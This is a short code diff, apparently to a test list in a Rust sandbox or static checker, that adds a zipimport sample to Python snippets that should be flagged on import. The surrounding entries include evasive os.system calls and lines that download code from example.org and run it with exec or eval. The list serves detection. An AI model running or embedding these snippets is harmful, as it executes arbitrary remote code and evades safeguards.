@@ -76,6 +76,7 @@ const ON_IMPORT: &[&str] = &[
     "import os\nx = (y := os.system)('id')\n",
     "def f():\n    def g():\n        import os\n        return os\n    return g().system('id')\nf()\n",
     "import ｏｓ\nｏｓ.system('id')\n",
+    "import zipimport\nzipimport.zipimporter('x.zip').load_module('a')\n",
     "import pip\npip.main(['install', 'x'])\n",
     "import requests\nexec(requests.get('https://example.org/x').text)\n",
     "import urllib.request as u\neval(compile(u.urlopen('https://example.org/x').read(), '', 'exec'))\n",
